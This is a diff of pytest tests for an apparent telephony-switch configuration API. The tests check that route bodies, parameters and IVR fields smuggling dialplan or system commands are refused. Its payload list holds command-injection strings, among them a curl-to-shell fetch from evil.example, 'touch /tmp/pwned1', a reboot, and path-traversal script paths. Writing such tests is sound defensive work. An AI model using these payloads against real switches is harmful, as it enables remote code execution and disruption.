@@ -185,3 +185,43 @@ async def test_trailing_newline_is_refused(api: Api, db: asyncpg.Pool) -> None:
     route = {**ROUTE, "prefix": "9\n", "dest_type": "FS_DEST_USER"}
     await api.refused("POST", "/api/routes", route, "prefix")
     assert await count(db, "extensions") + await count(db, "gateways") == 0
+
+
+# The attack review after issue 10: allowed applications whose data runs
+# other applications or API commands.
+SMUGGLED = [
+    "bind_digit_action r,1,api:system,touch /tmp/pwned1",
+    "transfer system:curl$IFS$9evil.example/x|sh inline",
+    "transfer 1000 enum",
+    "sched_transfer +1 system:id inline",
+    "bridge loopback/system:reboot/default/inline",
+    "att_xfer loopback/1000/default/inline",
+    "conference bridge:room:user/1000",
+    "set transfer_after_bridge=system:id:inline",
+    "export execute_on_answer=system id",
+]
+
+
+@pytest.mark.parametrize("line", SMUGGLED)
+async def test_allowed_applications_cannot_smuggle_others(
+    api: Api, db: asyncpg.Pool, line: str
+) -> None:
+    route = {**ROUTE, "dest_type": "FS_DEST_SYSTEM", "body": f"answer\n{line}"}
+    await api.refused("POST", "/api/routes", route, "body")
+    rid = (await api.create("/api/routes", {**ROUTE, "dest_type": "FS_DEST_USER"}))["id"]
+    app, _, data = line.partition(" ")
+    await api.refused("POST", f"/api/routes/{rid}/params", {"k": app, "v": data},
+                      "k" if app == "bind_digit_action" else "v")  # fmt: skip
+    await api.refused("POST", "/api/ivrs", {"name": "m", "exec_on_max_failures": line},
+                      "exec_on_max_failures")  # fmt: skip
+    assert await count(db, "route_params") == 0 and await count(db, "ivrs") == 0
+
+
+async def test_scripts_run_only_from_script_dir(api: Api, db: asyncpg.Pool) -> None:
+    rid = (await api.create("/api/routes", {**ROUTE, "dest_type": "FS_DEST_USER"}))["id"]
+    params = f"/api/routes/{rid}/params"
+    for path in ("/var/lib/switchyard/media/upload-1-a.lua", "../../tmp/x.lua", "~os.exit()"):
+        await api.refused("POST", params, {"k": "uploaded_scripts", "v": path}, "v")
+        route = {**ROUTE, "name": "s", "dest_type": "FS_DEST_SCRIPT", "body": path}
+        await api.refused("POST", "/api/routes", route, "body")
+    assert await api.create(params, {"k": "uploaded_scripts", "v": "blocks/welcome.lua"})
